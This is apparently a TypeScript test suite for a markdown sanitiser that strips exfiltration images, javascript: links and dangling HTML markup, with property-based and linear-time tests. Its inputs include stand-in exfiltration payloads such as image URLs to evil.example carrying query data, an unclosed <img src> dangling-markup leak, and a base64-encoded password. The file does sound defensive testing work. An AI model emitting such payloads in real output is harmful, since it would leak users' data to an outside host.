import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MARKDOWN_FIXTURES } from './fixtures/exfiltration.js';
import { findMarkdownRisks, neutraliseMarkdown } from './markdown.js';

const ALLOWED = { allowedHosts: ['ok.example', '*.cdn.example', 'docs.python.org'] };

function types(text: string, options = ALLOWED): string[] {
  return [...new Set(findMarkdownRisks(text, options).map((m) => m.type))].sort();
}

describe('neutraliseMarkdown: exfiltration write-ups', () => {
  for (const fixture of MARKDOWN_FIXTURES) {
    it(fixture.name, () => {
      const result = neutraliseMarkdown(fixture.text, ALLOWED);
      const found = new Set(result.matches.map((m) => m.type));
      for (const type of fixture.expect) expect(found, type).toContain(type);
      for (const gone of fixture.gone) expect(result.text).not.toContain(gone);
      for (const kept of fixture.kept ?? []) expect(result.text).toContain(kept);
      for (const match of result.matches) {
        expect(match.start).toBeGreaterThanOrEqual(0);
        expect(match.end).toBeLessThanOrEqual(fixture.text.length);
        expect(match.start).toBeLessThan(match.end);
      }
      // Neutralising again changes nothing and finds nothing.
      const again = neutraliseMarkdown(result.text, ALLOWED);
      expect(again.text).toBe(result.text);
      expect(again.matches).toEqual([]);
    });
  }
});

describe('neutraliseMarkdown: what stays', () => {
  it('keeps images from allowlisted hosts and subdomains of a *. entry', () => {
    const text = '![logo](https://ok.example/logo.png) ![chart](https://img.cdn.example/c.png?w=640)';
    expect(neutraliseMarkdown(text, ALLOWED)).toEqual({ text, matches: [] });
  });
  it('keeps allowlisted links even when they carry long queries', () => {
    const text =
      '[search](https://docs.python.org/3/search.html?q=how+to+read+a+file+line+by+line+in+python+3)';
    expect(neutraliseMarkdown(text, ALLOWED).text).toBe(text);
  });
  it('keeps ordinary links to other hosts that carry no data', () => {
    const text =
      'See [the RFC](https://www.rfc-editor.org/rfc/rfc8259), <https://example.org/a/b> and https://en.wikipedia.org/wiki/JSON.';
    expect(neutraliseMarkdown(text, ALLOWED)).toEqual({ text, matches: [] });
  });
  it('keeps non-Latin paths, hashes and slugs (not encoded payloads)', () => {
    const text = [
      '[维基](https://zh.wikipedia.org/wiki/%E4%BD%A0%E5%A5%BD%E4%B8%96%E7%95%8C)',
      '[commit](https://github.com/org/repo/commit/3f2a9c1e5b7d4a6f8e0c2b4d6f8a0c2e4b6d8f0a)',
      '[post](https://blog.example.org/2024/01/how-to-configure-the-proxy-for-corporate-networks)',
    ].join(' ');
    expect(neutraliseMarkdown(text, ALLOWED).matches).toEqual([]);
  });
  it('does not touch markdown without URLs', () => {
    const text = '# Title\n\n- [ ] task\n- [x] done\n\n**bold** `code [a](b` and [not a link] (really).';
    expect(neutraliseMarkdown(text, ALLOWED)).toEqual({ text, matches: [] });
  });
  it('keeps raster data: images only when asked', () => {
    const text = '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE=)';
    expect(types(text)).toEqual(['markdown:data-url']);
    expect(neutraliseMarkdown(text, { ...ALLOWED, allowDataImages: true }).text).toBe(text);
    expect(
      types('![x](data:image/svg+xml;base64,PHN2Zz4=)', {
        ...ALLOWED,
        allowDataImages: true,
      } as typeof ALLOWED),
    ).toEqual(['markdown:data-url']);
  });
  it('removes relative images unless allowed, keeps relative links', () => {
    expect(neutraliseMarkdown('![d](./diagram.png) [docs](/docs#setup)', ALLOWED).text).toBe(
      '(image removed: d) [docs](/docs#setup)',
    );
    expect(
      neutraliseMarkdown('![d](./diagram.png)', { ...ALLOWED, allowRelativeImages: true }).matches,
    ).toEqual([]);
  });
});

describe('neutraliseMarkdown: readable results', () => {
  it('turns an image into its alt text and a dangerous link into its text', () => {
    const result = neutraliseMarkdown(
      'Report ready. ![Q3 revenue chart](https://evil.example/c.png) Details: [open it](javascript:alert(1)).',
      ALLOWED,
    );
    expect(result.text).toBe(
      'Report ready. (image removed: Q3 revenue chart) Details: open it (link removed).',
    );
  });
  it('never lets the replacement form new markdown', () => {
    // The alt text is reduced to plain words; a following (…) cannot become a destination.
    const result = neutraliseMarkdown(
      '[click]![x](https://evil.example/p.png)(javascript:alert(1))',
      ALLOWED,
    );
    expect(result.text).toBe('[click] (image removed: x)(javascript:alert(1))');
    expect(neutraliseMarkdown(result.text, ALLOWED).matches).toEqual([]);
    const alt = neutraliseMarkdown(
      '![a](https://evil.example/1.png "t") ![[b](javascript:x)](https://evil.example/2)',
      ALLOWED,
    );
    expect(alt.text).toBe('(image removed: a) (image removed: b javascript:x)');
  });
  it('escapes an unclosed dangerous tag instead of dropping the rest of the text (dangling markup)', () => {
    const result = neutraliseMarkdown(
      'Status: <img src="https://evil.example/?page=\n\nThe secret plan is X.',
      ALLOWED,
    );
    expect(result.text).toBe('Status: &lt;img src="https://evil.example/?page=\n\nThe secret plan is X.');
    expect(result.matches.map((m) => m.type)).toContain('markdown:exfil-image');
  });
  it('rewrites a dangerous reference definition to a harmless fragment', () => {
    const result = neutraliseMarkdown('[docs][d]\n\n[d]: javascript:alert(1)', ALLOWED);
    expect(result.text).toBe('docs (link removed)\n\n[d]: #link-removed');
  });
  it('reports spans in the input', () => {
    const text = 'abc ![x](https://evil.example/p.png) def';
    const [match] = findMarkdownRisks(text, ALLOWED);
    expect(text.slice(match!.start, match!.end)).toBe('![x](https://evil.example/p.png)');
    expect(match!.detail).toBe('evil.example');
  });
});

const PIECES = [
  '[',
  ']',
  '(',
  ')',
  '![',
  '](',
  '<',
  '>',
  '`',
  '\\',
  ' ',
  '\n',
  '\n\n',
  '"',
  "'",
  ':',
  'a',
  'x y',
  'https://evil.example/p.png?q=',
  'https://ok.example/i.png',
  'javascript:alert(1)',
  'data:text/html,x',
  'VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy',
  '[r]: ',
  '[r]',
  '<img src=',
  ' onerror=x',
  '<a href=',
  '</a>',
  '<script>',
  'www.evil.example/?d=',
  '&#x6a;',
  '%20%20%20%20%20%20',
  '(image removed: a)',
  ' (link removed)',
];
const markdownish = fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((parts) => parts.join(''));

describe('neutraliseMarkdown: properties', () => {
  it('is idempotent', () => {
    fc.assert(
      fc.property(markdownish, (text) => {
        const once = neutraliseMarkdown(text, ALLOWED).text;
        expect(neutraliseMarkdown(once, ALLOWED).text).toBe(once);
      }),
      { numRuns: 2000 },
    );
  });
  it('is idempotent on arbitrary strings and never throws', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (text) => {
        const once = neutraliseMarkdown(text, ALLOWED).text;
        expect(neutraliseMarkdown(once, ALLOWED).text).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });
  it('leaves no image pointing at a host off the allowlist', () => {
    fc.assert(
      fc.property(markdownish, (text) => {
        const once = neutraliseMarkdown(text, ALLOWED).text;
        expect(findMarkdownRisks(once, ALLOWED)).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('neutraliseMarkdown: linear time', () => {
  const adversarial: Record<string, (n: number) => string> = {
    'nested brackets': (n) => `${'!['.repeat(n)}${']'.repeat(n)}`,
    'unclosed destinations': (n) => '[a](b'.repeat(n),
    'deep parentheses': (n) => `[a](${'('.repeat(n)}`,
    'unclosed tags': (n) => '<a x="'.repeat(n),
    'backtick runs': (n) => '`a``b```c'.repeat(n),
    'unclosed titles': (n) => '[a](b "'.repeat(n),
    labels: (n) => `${'[a][b'.repeat(n)}\n\n[b]: https://evil.example/`,
    'bare urls': (n) => 'http://a(http://b'.repeat(n),
  };
  for (const [name, make] of Object.entries(adversarial)) {
    // A quadratic scan would take minutes here; the bound is loose for busy CI machines.
    it(`${name}: 200k characters in linear time`, () => {
      const text = make(200_000 / make(1).length);
      const started = performance.now();
      neutraliseMarkdown(text, ALLOWED);
      expect(performance.now() - started).toBeLessThan(5000);
    });
  }
});
